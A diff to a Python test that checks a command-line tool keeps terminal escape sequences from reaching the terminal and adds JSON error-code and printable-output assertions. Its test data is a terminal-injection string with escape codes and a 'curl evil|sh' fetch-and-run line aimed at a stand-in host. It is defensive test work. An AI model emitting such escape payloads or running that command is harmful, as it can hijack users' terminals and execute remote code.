@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import resource
 import signal
@@ -124,5 +125,8 @@ def test_no_escape_reaches_the_terminal(
     monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
     assert run(arguments) == 4
     said = capfd.readouterr()
-    assert said.out == "" and "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun curl evil|sh\\x9b" in said.err
+    if "--json" in arguments:
+        assert json.loads(said.out)["error"]["code"] == "EK-CONNECT"
+    assert all(line.isprintable() for line in said.out.splitlines())
+    assert "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun curl evil|sh\\x9b" in said.err
     assert all(line.isprintable() for line in said.err.splitlines())
